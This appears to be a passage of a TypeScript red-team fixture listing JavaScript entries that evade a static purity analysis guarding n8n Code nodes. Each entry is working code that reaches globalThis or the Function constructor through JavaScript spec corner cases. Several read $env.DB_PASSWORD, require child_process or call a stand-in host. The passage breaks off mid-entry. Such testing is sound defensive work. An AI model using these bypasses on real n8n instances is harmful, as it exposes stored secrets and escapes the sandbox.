// Round 15 of the code-purity red team, against the points-to analysis (src/validate/purity), treated as a
// black box: only analyzeSource() was called, its source and documentation were not read. Every entry was
// run through ./n8n-sandbox.ts (n8n's runner flags, hardened host) on Node 20 and on Node 24.21.0 as n8n
// 2.41.1 runs it (node24 entries: Node 24 only, Map.groupBy / iterator helpers / Set methods / Promise.try).
//
// ROUND15_BYPASSES: the oracle obtains a capability, analyzeSource() returns no finding. Eight classes:
//   date-toJSON-toISOString, mapped-arguments-alias, concat-receiver, regexp-exec-result,
//   generator-return-throw, map-groupBy-key, index-accessor, key-canonicalization.
// ROUND15_CAUGHT: the oracle obtains a capability and the analysis reports it (attempts it stopped).
// ROUND15_FALSE_POSITIVES: everyday bodies that obtain nothing, which the analysis reports.
// ROUND15_PURE: everyday bodies that obtain nothing and that the analysis proves pure.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';
import type { N8nCodeMode } from './n8n-sandbox.js';

export interface Round15Entry extends RedTeamBypass {
  /** The Code node mode the entry was written for (default runOnceForAllItems). */
  mode?: N8nCodeMode;
}

export interface Round15Pure {
  id: string;
  code: string;
  mode?: N8nCodeMode;
  node24?: true;
}

export const ROUND15_BYPASSES: Round15Entry[] = [
  {
    "id": "date-toJSON/call-literal-global",
    "cls": "date-toJSON-toISOString",
    "code": "const G = Date.prototype.toJSON.call({ toISOString: () => globalThis });\nreturn [{ json: { g: G } }];",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: toJSON.call on a literal whose toISOString returns globalThis; G is returned."
  },
  {
    "id": "date-toJSON/instance-own-F-env",
    "cls": "date-toJSON-toISOString",
    "code": "const d = new Date();\nd.toISOString = () => (() => 0).constructor;\nconst F = d.toJSON();\nreturn [{ json: { e: F('return $env.DB_PASSWORD')() } }];",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: an own toISOString on a Date instance (Date.prototype is not frozen, so the write makes an own property) returns the Function constructor; the compiled code reads $env.DB_PASSWORD."
  },
  {
    "id": "date-toJSON/subclass-http",
    "cls": "date-toJSON-toISOString",
    "code": "class D extends Date { toISOString() { return globalThis; } }\nconst G = new D().toJSON();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: a Date subclass overrides toISOString; new D().toJSON() is the global object, and helpers.httpRequest is called."
  },
  {
    "id": "date-toJSON/literal-method-require",
    "cls": "date-toJSON-toISOString",
    "code": "const o = { g: globalThis, toISOString() { return this.g; }, toJSON: Date.prototype.toJSON };\nconst G = o.toJSON();\ntry { G.require('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: toJSON borrowed onto a literal whose toISOString method returns this.g; require is called."
  },
  {
    "id": "date-toJSON/host-now-env",
    "cls": "date-toJSON-toISOString",
    "code": "const G = $now.toJSON.call({ toISOString: () => globalThis });\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: the host realm's Date.prototype.toJSON, reached as $now.toJSON; $env.DB_PASSWORD is read."
  },
  {
    "id": "date-toJSON/each-item-env",
    "cls": "date-toJSON-toISOString",
    "mode": "runOnceForEachItem",
    "code": "const G = Date.prototype.toJSON.call({ toISOString: () => globalThis });\nreturn { json: { e: G.$env.DB_PASSWORD } };",
    "why": "Date.prototype.toJSON is summarized as giving a string, but by the spec it returns whatever this.toISOString() returns (after a ToPrimitive of this that only needs to give a non-number): a toISOString of the code's own returning a capability makes toJSON() that capability. Here: written for Run Once for Each Item (confirmed in that mode); $env.DB_PASSWORD is read."
  },
  {
    "id": "args/param-assign-global",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { a = globalThis; return arguments[0]; }\nconst G = f(1);\nreturn [{ json: { g: G } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: a = globalThis, then arguments[0] is returned."
  },
  {
    "id": "args/closure-write-F",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { const set = () => { a = (() => 0).constructor; }; set(); return arguments[0]; }\nconst G = f(1)('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: a closure writes the parameter (the Function constructor); arguments[0] is called to compile `return globalThis`."
  },
  {
    "id": "args/arrow-reads-arguments-env",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { const g = () => arguments[0]; a = globalThis; return g(); }\nconst G = f(1);\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: an arrow reads the enclosing function's arguments; $env.DB_PASSWORD is read."
  },
  {
    "id": "args/spread-http",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { a = globalThis; return [...arguments]; }\nconst [G] = f(1);\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: [...arguments]; helpers.httpRequest is called."
  },
  {
    "id": "args/array-from-require",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { a = globalThis; return Array.from(arguments); }\nconst G = f(1)[0];\ntry { G.require('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: Array.from(arguments); require is called."
  },
  {
    "id": "args/destructuring-target",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { [a] = [globalThis]; return arguments[0]; }\nconst G = f(1);\nreturn [{ json: { g: G } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: the parameter is the target of an array destructuring assignment."
  },
  {
    "id": "args/for-of-target",
    "cls": "mapped-arguments-alias",
    "code": "function f(a) { for (a of [globalThis]); return arguments[0]; }\nconst G = f(1);\nreturn [{ json: { g: G } }];",
    "why": "In a sloppy function with simple parameters, arguments is mapped: writing a parameter changes arguments[i]. The analysis follows arguments[i] = X into the parameter but not a write of the parameter (assignment, destructuring, for-of target, a closure's write) into arguments[i], so what arguments gives stays clean. Here: the parameter is the target of for-of."
  },
  {
    "id": "concat/receiver-global",
    "cls": "concat-receiver",
    "code": "const [G] = Array.prototype.concat.call(globalThis);\nreturn [{ json: { g: G } }];",
    "why": "Array.prototype.concat called on a receiver that is not an array (and not spreadable) puts the receiver itself at index 0 of the new array; the analysis takes concat's result to hold only the elements of its receiver and arguments, so [G] = concat.call(X) is clean. Here: the global object as receiver."
  },
  {
    "id": "concat/receiver-function-constructor",
    "cls": "concat-receiver",
    "code": "const [F] = [].concat.call((() => 0).constructor);\nconst G = F('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "Array.prototype.concat called on a receiver that is not an array (and not spreadable) puts the receiver itself at index 0 of the new array; the analysis takes concat's result to hold only the elements of its receiver and arguments, so [G] = concat.call(X) is clean. Here: the Function constructor as receiver; F compiles `return globalThis`."
  },
  {
    "id": "concat/host-items-concat-env",
    "cls": "concat-receiver",
    "code": "const [G] = items.concat.call(globalThis);\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "Array.prototype.concat called on a receiver that is not an array (and not spreadable) puts the receiver itself at index 0 of the new array; the analysis takes concat's result to hold only the elements of its receiver and arguments, so [G] = concat.call(X) is clean. Here: the host realm's concat (items is a host array); $env.DB_PASSWORD is read."
  },
  {
    "id": "concat/apply-http",
    "cls": "concat-receiver",
    "code": "const G = Array.prototype.concat.apply(globalThis, [[1]])[0];\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Array.prototype.concat called on a receiver that is not an array (and not spreadable) puts the receiver itself at index 0 of the new array; the analysis takes concat's result to hold only the elements of its receiver and arguments, so [G] = concat.call(X) is clean. Here: concat.apply with the global object as receiver; helpers.httpRequest is called."
  },
  {
    "id": "regexp/split-species-captures",
    "cls": "regexp-exec-result",
    "code": "class X { constructor() { this.lastIndex = 0; this.n = 0; } exec() { if (this.n++) return null; this.lastIndex = 1; return ['', globalThis]; } }\nconst re = { constructor: { [Symbol.species]: X }, flags: '' };\nconst G = RegExp.prototype[Symbol.split].call(re, 'ab')[1];\nreturn [{ json: { g: G } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: @@split called on a literal whose constructor[Symbol.species] builds the splitter; the capture is result[1]."
  },
  {
    "id": "regexp/split-subclass-F",
    "cls": "regexp-exec-result",
    "code": "class Rx extends RegExp { exec() { if (this.done) return null; this.done = true; this.lastIndex = 1; return ['', (() => 0).constructor]; } }\nconst F = 'ab'.split(new Rx('b'))[1];\nconst G = F('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: 'ab'.split(new Rx('b')) with a RegExp subclass whose exec returns the Function constructor as a capture."
  },
  {
    "id": "regexp/matchAll-species",
    "cls": "regexp-exec-result",
    "code": "const re = { constructor: { [Symbol.species]: function () { return { lastIndex: 0, exec: () => globalThis }; } }, flags: '', lastIndex: 0 };\nconst G = RegExp.prototype[Symbol.matchAll].call(re, 'a').next().value;\nreturn [{ json: { g: G } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: @@matchAll's iterator yields what the species-built matcher's exec returns."
  },
  {
    "id": "regexp/search-subclass-index",
    "cls": "regexp-exec-result",
    "code": "class Rx extends RegExp { exec() { return { index: globalThis }; } }\nconst G = 'a'.search(new Rx('a'));\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: 'a'.search(new Rx('a')) is exec's result.index; $env.DB_PASSWORD is read."
  },
  {
    "id": "regexp/search-instance-exec-http",
    "cls": "regexp-exec-result",
    "code": "const re = /a/;\nre.exec = () => ({ index: globalThis });\nconst G = 'a'.search(re);\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: an own exec on a RegExp literal; 'a'.search(re) is the global object, helpers.httpRequest is called."
  },
  {
    "id": "regexp/replace-groups",
    "cls": "regexp-exec-result",
    "code": "let G;\nclass Rx extends RegExp { exec() { return { 0: 'a', index: 0, length: 1, groups: globalThis }; } }\n'a'.replace(new Rx('a'), (...a) => { G = a.at(-1); return ''; });\nreturn [{ json: { g: G } }];",
    "why": "The RegExp protocol methods run the exec of the code's own RegExp-like object (a RegExp subclass, an own exec on an instance, or the object a species constructor returns) and hand what it returns onward: @@split copies captures (result[1..]) into its result array, @@matchAll's iterator yields exec's result, @@search returns result.index, @@replace passes result.groups to a replacer function. The analysis does not carry exec's return into any of these, so the capability comes out clean. Here: @@replace hands exec's result.groups, unconverted, to the replacer as its last argument."
  },
  {
    "id": "gen/return-value",
    "cls": "generator-return-throw",
    "code": "function* g() { yield 1; }\nconst G = g().return(globalThis).value;\nreturn [{ json: { g: G } }];",
    "why": "A generator object's return(v) and throw(v) resume it with v: return(v) gives { value: v, done: true } (also through a finally), throw(v) delivers v to the generator's catch. The analysis follows next(v) into the yield expression, but not return's argument into the result's value nor throw's argument into the catch parameter (sync and async generators alike). Here: g().return(globalThis).value."
  },
  {
    "id": "gen/throw-into-catch-F",
    "cls": "generator-return-throw",
    "code": "let F;\nfunction* g() { try { yield 1; } catch (e) { F = e; } }\nconst it = g(); it.next(); it.throw((() => 0).constructor);\nconst G = F('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "A generator object's return(v) and throw(v) resume it with v: return(v) gives { value: v, done: true } (also through a finally), throw(v) delivers v to the generator's catch. The analysis follows next(v) into the yield expression, but not return's argument into the result's value nor throw's argument into the catch parameter (sync and async generators alike). Here: it.throw(Function constructor) lands in the generator's catch; the caught value compiles `return globalThis`."
  },
  {
    "id": "gen/async-return-env",
    "cls": "generator-return-throw",
    "code": "async function* g() { yield 1; }\nconst { value: G } = await g().return(globalThis);\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "A generator object's return(v) and throw(v) resume it with v: return(v) gives { value: v, done: true } (also through a finally), throw(v) delivers v to the generator's catch. The analysis follows next(v) into the yield expression, but not return's argument into the result's value nor throw's argument into the catch parameter (sync and async generators alike). Here: an async generator's return; $env.DB_PASSWORD is read."
  },
  {
    "id": "gen/async-throw-http",
    "cls": "generator-return-throw",
    "code": "let G;\nasync function* g() { try { yield 1; } catch (e) { G = e; } }\nconst it = g(); await it.next(); await it.throw(globalThis);\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "A generator object's return(v) and throw(v) resume it with v: return(v) gives { value: v, done: true } (also through a finally), throw(v) delivers v to the generator's catch. The analysis follows next(v) into the yield expression, but not return's argument into the result's value nor throw's argument into the catch parameter (sync and async generators alike). Here: an async generator's throw; helpers.httpRequest is called."
  },
  {
    "id": "gen/return-through-finally",
    "cls": "generator-return-throw",
    "code": "function* g() { try { yield 1; } finally { void 0; } }\nconst it = g(); it.next();\nconst { value: G } = it.return(globalThis);\nreturn [{ json: { g: G } }];",
    "why": "A generator object's return(v) and throw(v) resume it with v: return(v) gives { value: v, done: true } (also through a finally), throw(v) delivers v to the generator's catch. The analysis follows next(v) into the yield expression, but not return's argument into the result's value nor throw's argument into the catch parameter (sync and async generators alike). Here: return(v) runs the generator's finally and still completes with v."
  },
  {
    "id": "groupBy/map-keys-destructure",
    "cls": "map-groupBy-key",
    "node24": true,
    "code": "const [G] = Map.groupBy([1], () => globalThis).keys();\nreturn [{ json: { g: G } }];",
    "why": "Map.groupBy(list, cb) makes what cb returns a key of the resulting Map (Node 21+, so on n8n's Node 24). The analysis treats the callback's return as a mere key (like Object.groupBy's, which becomes a string) and not as a value the Map holds, so reading the Map's keys (destructuring, keys(), forEach's second argument) is clean. Here: the first key of Map.groupBy([1], () => globalThis)."
  },
  {
    "id": "groupBy/map-forEach-key-F",
    "cls": "map-groupBy-key",
    "node24": true,
    "code": "let F;\nMap.groupBy(items, () => (() => 0).constructor).forEach((rows, k) => { F = k; });\nconst G = F('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "Map.groupBy(list, cb) makes what cb returns a key of the resulting Map (Node 21+, so on n8n's Node 24). The analysis treats the callback's return as a mere key (like Object.groupBy's, which becomes a string) and not as a value the Map holds, so reading the Map's keys (destructuring, keys(), forEach's second argument) is clean. Here: the Function constructor as the key of items grouped, read as forEach's second argument."
  },
  {
    "id": "groupBy/map-entries-env",
    "cls": "map-groupBy-key",
    "node24": true,
    "code": "const [[G]] = Map.groupBy(items, () => globalThis);\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "Map.groupBy(list, cb) makes what cb returns a key of the resulting Map (Node 21+, so on n8n's Node 24). The analysis treats the callback's return as a mere key (like Object.groupBy's, which becomes a string) and not as a value the Map holds, so reading the Map's keys (destructuring, keys(), forEach's second argument) is clean. Here: destructuring the Map's first entry; $env.DB_PASSWORD is read."
  },
  {
    "id": "accessor/num-getter-read",
    "cls": "index-accessor",
    "code": "const o = { get 0() { return globalThis; } };\nconst G = o[0];\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: o[0] on a literal with get 0()."
  },
  {
    "id": "accessor/num-getter-dynamic-index-F",
    "cls": "index-accessor",
    "code": "const o = { get 0() { return (() => 0).constructor; } };\nlet i = 0;\nconst G = o[i]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: o[i] with i = 0 gives the Function constructor."
  },
  {
    "id": "accessor/string-index-getter-env",
    "cls": "index-accessor",
    "code": "const o = { get '0'() { return globalThis; } };\nconst G = o[0];\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: the getter's key is the string '0'; $env.DB_PASSWORD is read."
  },
  {
    "id": "accessor/static-getter-http",
    "cls": "index-accessor",
    "code": "class A { static get 0() { return globalThis; } }\nconst G = A[0];\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: a class's static get 0(); helpers.httpRequest is called."
  },
  {
    "id": "accessor/num-setter-write",
    "cls": "index-accessor",
    "code": "let G;\nconst o = { set 0(v) { G = v; } };\no[0] = globalThis;\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: o[0] = globalThis runs set 0(v), which keeps v."
  },
  {
    "id": "accessor/push-setter",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.push.call({ set 0(v) { G = v; }, length: 0 }, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: push on an array-like with set 0(v)."
  },
  {
    "id": "accessor/fill-setter-require",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.fill.call({ set 0(v) { G = v; }, length: 1 }, globalThis);\ntry { G.require('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: fill; require is called."
  },
  {
    "id": "accessor/unshift-setter",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.unshift.call({ set 0(v) { G = v; }, length: 0 }, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: unshift."
  },
  {
    "id": "accessor/splice-setter",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.splice.call({ set 0(v) { G = v; }, length: 0 }, 0, 0, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: splice inserting at 0."
  },
  {
    "id": "accessor/copyWithin-setter",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.copyWithin.call({ 0: globalThis, set 1(v) { G = v; }, length: 2 }, 1, 0);\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: copyWithin moves the data at 0 into the setter at 1."
  },
  {
    "id": "accessor/class-setter-push-env",
    "cls": "index-accessor",
    "code": "let G;\nclass A { set 0(v) { G = v; } }\nArray.prototype.push.call(new A(), globalThis);\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: a class's set 0(v) on the instance's prototype; $env.DB_PASSWORD is read."
  },
  {
    "id": "accessor/pop-getter",
    "cls": "index-accessor",
    "code": "const G = Array.prototype.pop.call({ get 0() { return globalThis; }, length: 1 });\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: pop returns the getter's value."
  },
  {
    "id": "accessor/at-getter",
    "cls": "index-accessor",
    "code": "const G = Array.prototype.at.call({ get 0() { return globalThis; }, length: 1 }, 0);\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: at(0)."
  },
  {
    "id": "accessor/array-from-class-getter-F",
    "cls": "index-accessor",
    "code": "class A { get 0() { return (() => 0).constructor; } get length() { return 1; } }\nconst [F] = Array.from(new A());\nconst G = F('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: Array.from of a class instance with get 0() and get length()."
  },
  {
    "id": "accessor/apply-arguments-getter",
    "cls": "index-accessor",
    "code": "const G = ((a) => a).apply(null, { get 0() { return globalThis; }, length: 1 });\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: apply's argument list is an array-like with get 0()."
  },
  {
    "id": "accessor/forEach-getter-http",
    "cls": "index-accessor",
    "code": "let G;\nArray.prototype.forEach.call({ get 0() { return globalThis; }, length: 1 }, (v) => { G = v; });\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: forEach hands the getter's value to the callback; helpers.httpRequest is called."
  },
  {
    "id": "accessor/values-iterator-getter",
    "cls": "index-accessor",
    "code": "const [G] = Array.prototype.values.call({ get 0() { return globalThis; }, length: 1 });\nreturn [{ json: { g: G } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: the array iterator over an array-like."
  },
  {
    "id": "accessor/host-pop-getter-env",
    "cls": "index-accessor",
    "code": "const G = items.pop.call({ get 0() { return globalThis; }, length: 1 });\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "An accessor whose key is an array index ({ get 0() {...} }, { get '0'() {...} }, static get 0(), set 0(v)) is not found when the property is read or written as an element: o[0], o[i], and the element reads and writes of the generic Array built-ins on an array-like (pop, at, Array.from, forEach, values, apply's argument list; push, unshift, fill, splice, copyWithin, of the sandbox and host realms). The getter's return (or the value handed to the setter) is lost, so it is clean. Here: the host realm's pop (items.pop); $env.DB_PASSWORD is read."
  },
  {
    "id": "key/float-literal",
    "cls": "key-canonicalization",
    "code": "const o = { '1.5': globalThis };\nconst G = o[1.5];\nreturn [{ json: { g: G } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: stored under '1.5', read as o[1.5]."
  },
  {
    "id": "key/float-write-string-read",
    "cls": "key-canonicalization",
    "code": "const o = {};\no[1.5] = globalThis;\nconst G = o['1.5'];\nreturn [{ json: { g: G } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: written as o[1.5], read as o['1.5']."
  },
  {
    "id": "key/exponent-1e21",
